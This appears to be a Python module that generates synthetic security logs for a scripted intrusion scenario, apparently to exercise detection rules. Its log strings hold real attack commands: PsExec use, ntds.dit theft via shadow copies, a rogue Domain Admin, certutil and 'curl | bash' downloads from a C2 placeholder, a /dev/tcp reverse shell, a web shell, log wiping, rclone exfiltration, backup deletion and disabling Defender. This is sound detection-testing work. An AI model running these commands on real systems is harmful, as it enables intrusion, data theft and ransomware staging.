"""Day one, afternoon, to day two, before dawn: servers, the domain, Linux, the drawings (S15 to S28)."""

from .dice import MINUTE, SECOND, jst
from .intrusion_entry import IMPLANT, POWERSHELL, RUN_IMPLANT
from .machine import Process, SYSTEM32
from .ordinary_unix import key_print
from .ordinary_windows import account_created, group_member, replicate
from .world import ADDRESSES, BACKUP, C2_IP, DOMAIN_SID, EXFIL_HOST, EXFIL_IP, HELPDESK2, ITO, SATO, SYSTEM, DOMAIN

CURL_AGENT = "rclone/v1.67.0"


def run(story, machines, logs):
    fs, dc, ap = machines["FS01"], machines["DC01"], machines["AP01"]
    beacon = psexec(story, fs)
    rdp = controller(story, dc, fs)
    new_account(story, dc, rdp)
    application(story, ap, dc, logs)
    clear_logs(story, dc, rdp)
    storage_server(story, logs)
    web_server(story, logs)
    collect(story, fs, logs, beacon)
    prepare(story, fs, ap, beacon)


def psexec(story, fs):
    pc_ip = ADDRESSES["WS-KEIRI-03"]
    with story.step("S15"):
        t = jst("14 13:10:40")
        logon = fs.logon(t, ITO, 3, pc_ip, "WS-KEIRI-03", "NTLM", key_length=0)
        share = {
            **fs.subject(logon),
            "ObjectType": "File",
            "IpAddress": pc_ip,
            "IpPort": "51877",
            "ShareName": "\\\\*\\ADMIN$",
            "ShareLocalPath": "\\??\\C:\\Windows",
        }
        fs.emit("sec.5140", t + 40_000, {**share, "AccessMask": 1, "AccessList": "%%4416"})
        fs.emit(
            "sec.5145",
            t + 90_000,
            {
                **share,
                "RelativeTargetName": "PSEXESVC.exe",
                "AccessMask": 0x12019F,
                "AccessList": "%%1538 %%4417",
                "AccessReason": "-",
            },
            rules=("admin_share_program_written",),
        )
        fs.emit(
            "sys.7045",
            t + 2 * SECOND,
            {
                "ServiceName": "PSEXESVC",
                "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                "ServiceType": "user mode service",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            },
            user_sid=ITO.sid,
            rules=("remote_execution_service_installed",),
        )
        fs.emit(
            "sec.4697",
            t + 2 * SECOND,
            {
                **fs.subject(logon),
                "ServiceName": "PSEXESVC",
                "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe",
                "ServiceType": 0x10,
                "ServiceStartType": 3,
                "ServiceAccount": "LocalSystem",
            },
        )
        service = fs.start(
            t + 3 * SECOND,
            fs.services,
            "C:\\Windows\\PSEXESVC.exe",
            "C:\\Windows\\PSEXESVC.exe",
            company="Sysinternals",
            original="psexesvc.exe",
        )
        fs.sysmon(
            17,
            t + 3 * SECOND + 90_000,
            service,
            ("remote_execution_pipe",),
            EventType="CreatePipe",
            PipeName="\\PSEXESVC",
        )
        for n, suffix in enumerate(("stdin", "stdout", "stderr")):
            fs.sysmon(
                17,
                t + 4 * SECOND + n * 1000,
                service,
                ("remote_execution_pipe",),
                EventType="CreatePipe",
                PipeName=f"\\PSEXESVC-WS-KEIRI-03-6120-{suffix}",
            )
        shell = fs.start(
            t + 4 * SECOND + 20_000, service, "cmd.exe", '"cmd.exe"', rules=("remote_execution_service_starts_shell",)
        )
    with story.step("S16"):
        t = jst("14 13:14:05")
        fs.file(t, shell, IMPLANT)
        loader = fs.start(
            t + 5 * SECOND,
            shell,
            "rundll32.exe",
            RUN_IMPLANT,
            original="RUNDLL32.EXE",
            rules=("rundll32_user_writable_library",),
        )
        fs.load(t + 6 * SECOND, loader, IMPLANT, False, ("unsigned_library_loaded",))
        fs.emit(
            "sys.7045",
            t + 30 * SECOND,
            {
                "ServiceName": "rkvmzq",
                "ImagePath": "%COMSPEC% /c echo rkvmzq > \\\\.\\pipe\\rkvmzq",
                "ServiceType": "user mode service",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            },
            user_sid=SYSTEM.sid,
            rules=("service_with_shell_command",),
        )
        beacon = fs.start(
            t + 50 * SECOND,
            loader,
            "rundll32.exe",
            "C:\\Windows\\System32\\rundll32.exe",
            original="RUNDLL32.EXE",
            rules=("rundll32_without_library",),
        )
        for n in range(6):
            fs.connect(t + (60 + 1800 * n) * SECOND, beacon, C2_IP, "-", 443, ("system_binary_calls_out",))
    return beacon


def controller(story, dc, fs):
    with story.step("S17"):
        t = jst("14 20:41:17")
        session = dc.logon(
            t, ITO, 10, fs.ip, "DC01", process=SYSTEM32 + "svchost.exe", rules=("controller_rdp_from_server",)
        )
        _, explorer = dc.desktop(t + 8 * SECOND, session, integrity="High")
        shell = dc.start(t + 30 * SECOND, explorer, "cmd.exe", '"C:\\Windows\\system32\\cmd.exe"', integrity="High")
    with story.step("S18"):
        t = jst("14 20:52:00")
        dc.start(
            t,
            shell,
            "ntdsutil.exe",
            'ntdsutil "ac i ntds" "ifm" "create full C:\\PerfLogs\\ad" q q',
            integrity="High",
            rules=("directory_database_copied",),
        )
        dc.start(t + 3 * MINUTE, shell, "vssadmin.exe", "vssadmin  create shadow /for=C:", integrity="High")
        for n, path in enumerate(("Windows\\NTDS\\ntds.dit", "Windows\\System32\\config\\SYSTEM")):
            dc.start(
                t + (4 + n) * MINUTE,
                shell,
                "cmd.exe",
                f"cmd  /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\{path} C:\\PerfLogs\\",
                integrity="High",
                rules=("shadow_copy_file_taken",),
            )
    with story.step("S19"):
        t = jst("14 21:05:09")
        for n in range(3):
            replicate(dc, t + n * 300_000, ITO.sid, ITO.name, session.logon_id, ("directory_replication_by_person",))
    return session, shell


def new_account(story, dc, rdp):
    session, shell = rdp
    with story.step("S20"):
        t = jst("14 21:15:33")
        dc.start(
            t,
            shell,
            "net.exe",
            "net  user svc_helpdesk2 M1nato!2026 /add /domain",
            integrity="High",
            rules=("account_added_by_net",),
        )
        account_created(
            dc,
            t + SECOND,
            session,
            HELPDESK2.name,
            HELPDESK2.sid,
            "ヘルプデスク２",
            "%%2089",
            ("password_never_expires",),
        )
        dc.start(
            t + 20 * SECOND,
            shell,
            "net.exe",
            'net  group "Domain Admins" svc_helpdesk2 /add /domain',
            integrity="High",
            rules=("account_added_by_net",),
        )
        group_member(
            dc,
            t + 21 * SECOND,
            session,
            "sec.4728",
            "CN=svc_helpdesk2,CN=Users,DC=corp,DC=minato-seiki,DC=example",
            HELPDESK2.sid,
            "Domain Admins",
            DOMAIN_SID + "-512",
            ("privileged_group_member_added",),
        )
        own = dc.logon(t + 5 * MINUTE, HELPDESK2, 3, ADDRESSES["FS01"], "FS01", "NTLM")
        group_member(
            dc,
            t + 6 * MINUTE,
            own,
            "sec.4732",
            "CN=svc_helpdesk2,CN=Users,DC=corp,DC=minato-seiki,DC=example",
            HELPDESK2.sid,
            "Backup Operators",
            "S-1-5-32-551",
            ("account_adds_itself_to_group",),
        )


def application(story, ap, dc, logs):
    with story.step("S21"):
        t = jst("14 21:40:02")
        command = f'sc  \\\\AP01 create SyncHost binPath= "cmd /c {RUN_IMPLANT}" start= auto'
        session = ap.logon(t + SECOND, HELPDESK2, 3, dc.ip, "DC01", "NTLM")
        dc.start(t, dc.svchost, "sc.exe", command, integrity="High", rules=("remote_service_created",))
        ap.emit(
            "sys.7045",
            t + 2 * SECOND,
            {
                "ServiceName": "SyncHost",
                "ImagePath": f"cmd /c {RUN_IMPLANT}",
                "ServiceType": "user mode service",
                "StartType": "auto start",
                "AccountName": "LocalSystem",
            },
            user_sid=HELPDESK2.sid,
            rules=("service_with_shell_command",),
        )
        shell = ap.start(t + MINUTE, ap.services, "cmd.exe", "cmd /c ver")
        ap.start(
            t + 2 * MINUTE,
            shell,
            "certutil.exe",
            f"certutil  -urlcache -split -f http://{C2_IP}/k.zip C:\\PerfLogs\\k.zip",
            rules=("certutil_download",),
        )
        ap.start(t + 3 * MINUTE, shell, "rundll32.exe", RUN_IMPLANT, rules=("rundll32_user_writable_library",))
        logs["proxy"].request(
            t + 2 * MINUTE,
            ap.ip,
            "-",
            "GET",
            f"http://{C2_IP}/k.zip",
            "Microsoft-CryptoAPI/10.0",
            300,
            4_100_233,
            ("download_from_bare_address",),
            kind="application/zip",
        )
        ap.logoff(t + 20 * MINUTE, session, 3)


def clear_logs(story, dc, rdp):
    session, shell = rdp
    with story.step("S22"):
        t = jst("14 21:58:40")
        for n, log in enumerate(("Security", "System", "Microsoft-Windows-PowerShell/Operational")):
            dc.start(
                t + n * 3 * SECOND,
                shell,
                "wevtutil.exe",
                f"wevtutil  cl {log}",
                integrity="High",
                rules=("event_log_cleared_command",),
            )
        dc.emit("sec.1102", t + SECOND, dc.subject(session), rules=("security_log_cleared",))
        dc.emit(
            "sys.104",
            t + 4 * SECOND,
            {"SubjectUserName": ITO.name, "SubjectDomainName": DOMAIN, "Channel": "System"},
            user_sid=ITO.sid,
            rules=("other_log_cleared",),
        )
        dc.logoff(t + 2 * MINUTE, session, 10)


def storage_server(story, logs):
    log, audit, dice, fs_ip = logs["nas01.syslog"], logs["nas01.audit"], story.dice, ADDRESSES["FS01"]
    with story.step("S23"):
        t = jst("15 00:38:10")
        for n, name in enumerate(["root", "ito", "admin", "ito", "root", "svc_backup"]):
            log.say(
                t + n * 9 * SECOND,
                "sshd",
                20114 + n,
                f"Failed password for {'invalid user ' if name == 'admin' else ''}{name} from {fs_ip} port {50400 + n} ssh2",
            )
        log.say(
            t + 80 * SECOND,
            "sshd",
            20131,
            f"Accepted password for svc_backup from {fs_ip} port 50433 ssh2",
            ("ssh_password_for_service_account",),
        )
        log.say(
            t + 80 * SECOND + 40_000,
            "sshd",
            20131,
            "pam_unix(sshd:session): session opened for user svc_backup(uid=1010) by (uid=0)",
        )
    with story.step("S24"):
        t = jst("15 00:41:00")
        log.say(
            t,
            "sudo",
            0,
            "svc_backup : TTY=pts/1 ; PWD=/home/svc_backup ; USER=root ; COMMAND=/bin/bash",
            ("sudo_to_shell",),
        )
        log.say(
            t + 2000, "sudo", 0, "pam_unix(sudo:session): session opened for user root(uid=0) by svc_backup(uid=1010)"
        )
        say = lambda at, argv, exe, rules=(): audit.execute(
            t + at * SECOND, dice, argv, exe, 0, 1010, "pts1", "/root", rules
        )
        say(1, ["/bin/bash"], "/usr/bin/bash")
        say(40, ["ln", "-sf", "/dev/null", "/root/.bash_history"], "/usr/bin/ln", ("shell_history_disabled",))
        say(75, ["bash", "-c", f"curl -fsSL http://{C2_IP}/i.sh | bash"], "/usr/bin/bash", ("download_piped_to_shell",))
        say(76, ["curl", "-fsSL", f"http://{C2_IP}/i.sh"], "/usr/bin/curl")
        audit.write(
            t + 80 * SECOND,
            dice,
            "/etc/cron.d/php-session",
            "/usr/bin/bash",
            0,
            1010,
            True,
            "cron",
            ("cron_file_written",),
        )
        audit.write(
            t + 84 * SECOND,
            dice,
            "/root/.ssh/authorized_keys",
            "/usr/bin/tee",
            0,
            1010,
            False,
            "keys",
            ("authorized_keys_written",),
        )
        say(120, ["useradd", "-o", "-u", "0", "-g", "0", "-M", "-s", "/bin/bash", "sysstat"], "/usr/sbin/useradd")
        log.say(
            t + 121 * SECOND,
            "useradd",
            20390,
            "new user: name=sysstat, UID=0, GID=0, home=/home/sysstat, shell=/bin/bash, from=/dev/pts/1",
            ("second_root_account",),
        )
        for n in range(1, 8):
            log.say(
                t + n * 20 * MINUTE,
                "CRON",
                21000 + 37 * n,
                f"(root) CMD (curl -fsSL http://{C2_IP}/i.sh | bash >/dev/null 2>&1)",
                ("cron_runs_download",),
            )


def web_server(story, logs):
    log, audit, web, dice = logs["web01.syslog"], logs["web01.audit"], logs["web01.access"], story.dice
    with story.step("S25"):
        t, nas = jst("15 00:58:20"), ADDRESSES["NAS01"]
        log.say(t, "sshd", 8841, f"Accepted publickey for deploy from {nas} port 41022 ssh2: RSA {key_print(dice)}")
        log.say(t + 20_000, "sshd", 8841, "pam_unix(sshd:session): session opened for user deploy(uid=1005) by (uid=0)")
        audit.execute(
            t + 20 * SECOND,
            dice,
            ["cp", "/tmp/.c", "/var/www/html/uploads/cache.php"],
            "/usr/bin/cp",
            1005,
            1005,
            "pts2",
            "/home/deploy",
        )
        t = jst("15 01:04:00")
        for n, command in enumerate(("id", "uname -a", "cat /etc/passwd", "ss -tlnp")):
            web.request(
                t + n * 31 * SECOND,
                C2_IP,
                "POST",
                "/uploads/cache.php",
                "",
                200,
                dice.between(120, 2400),
                "Mozilla/5.0 (X11; Linux x86_64)",
                ("web_shell_post",),
            )
            audit.execute(
                t + n * 31 * SECOND + 40_000,
                dice,
                ["sh", "-c", command],
                "/usr/bin/dash",
                33,
                None,
                "(none)",
                "/var/www/html/uploads",
                syscall_rules=("web_server_starts_shell",),
            )
        t = jst("15 01:09:30")
        audit.execute(
            t,
            dice,
            ["bash", "-c", f"bash -i >& /dev/tcp/{C2_IP}/443 0>&1"],
            "/usr/bin/bash",
            33,
            None,
            "(none)",
            "/var/www/html/uploads",
            rules=("reverse_shell_by_device",),
            syscall_rules=("web_server_starts_shell",),
        )
        audit.execute(
            t + 6 * MINUTE,
            dice,
            ["rm", "-f", "/var/log/nginx/error.log", "/var/log/auth.log.1"],
            "/usr/bin/rm",
            0,
            1005,
            "pts2",
            "/root",
            rules=("log_files_removed",),
        )


def collect(story, fs, logs, beacon):
    with story.step("S26"):
        t = jst("15 01:31:00")
        shell = fs.start(t, beacon, "cmd.exe", "C:\\Windows\\system32\\cmd.exe")
        for n, (folder, parts) in enumerate((("設計図面", 7), ("経理", 2))):
            at = t + n * 6 * MINUTE
            fs.start(
                at + SECOND,
                shell,
                "C:\\PerfLogs\\7z.exe",
                f"7z.exe a -t7z -mx1 -mhe=on -pKq7#tV2mZ9 -v500m C:\\PerfLogs\\{n + 1}.7z D:\\共有\\{folder}",
                company="Igor Pavlov",
                original="7z.exe",
                rules=("archive_with_password",),
            )
            for part in range(1, parts + 1):
                path = f"C:\\PerfLogs\\{n + 1}.7z.{part:03}"
                logs["operations"].put(
                    at + part * 35 * SECOND,
                    "FS01",
                    "SYSTEM",
                    "ファイル作成",
                    path,
                    524288000,
                    "7z.exe",
                    ("very_large_archive_recorded",),
                )
    with story.step("S27"):
        t = jst("15 01:52:00")
        fs.start(
            t,
            shell,
            "C:\\PerfLogs\\svhost.exe",
            "svhost.exe  copy C:\\PerfLogs\\ box:minato --config C:\\PerfLogs\\c.conf --transfers 8 --no-check-certificate",
            company="https://rclone.org",
            original="rclone.exe",
            rules=("cloud_copy_tool",),
        )
        for n in range(9):
            logs["proxy"].request(
                t + (n * 190 + 20) * SECOND,
                fs.ip,
                "-",
                "PUT",
                f"https://{EXFIL_HOST}/v2/o/{story.dice.hex(16)}",
                CURL_AGENT,
                524_288_000 + story.dice.below(9000),
                412,
                ("very_large_upload",),
                kind="application/json",
            )
        fs.lookup(t + SECOND, beacon, EXFIL_HOST, f"::ffff:{EXFIL_IP};", ("system_binary_looks_up_name",))


def prepare(story, fs, ap, beacon):
    with story.step("S28"):
        for machine, begin in ((fs, "15 04:05:10"), (ap, "15 04:12:40")):
            t = jst(begin)
            parent = beacon if machine is fs else machine.services
            shell = machine.start(t, parent, "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c C:\\PerfLogs\\p.bat")
            orders = [
                ("net.exe", 'net  stop "SQL Server (HANBAI)" /y', ("backup_services_stopped",)),
                ("net.exe", "net  stop wbengine /y", ("backup_services_stopped",)),
                ("taskkill.exe", "taskkill  /f /im sqlservr.exe", ("backup_services_stopped",)),
                ("vssadmin.exe", "vssadmin  delete shadows /all /quiet", ("shadow_copies_deleted",)),
                ("wbem\\WMIC.exe", "wmic  shadowcopy delete /nointeractive", ("shadow_copies_deleted",)),
                ("wbadmin.exe", "wbadmin  delete catalog -quiet", ("backup_catalogue_deleted",)),
                ("bcdedit.exe", "bcdedit  /set {default} recoveryenabled no", ("recovery_disabled",)),
                ("bcdedit.exe", "bcdedit  /set {default} bootstatuspolicy ignoreallfailures", ("recovery_disabled",)),
            ]
            for n, (image, command, rules) in enumerate(orders):
                machine.start(t + (n + 1) * 4 * SECOND, shell, SYSTEM32 + image, command, rules=rules)
            machine.service_state(t + 20 * SECOND, "Block Level Backup Engine Service", "stopped")
            shell2 = machine.start(
                t + MINUTE,
                shell,
                "reg.exe",
                'reg  add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f',
                rules=("defender_switched_off_command",),
            )
            machine.registry(
                t + MINUTE + 30_000,
                shell2,
                "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
                "DWORD (0x00000001)",
                ("defender_switched_off",),
            )
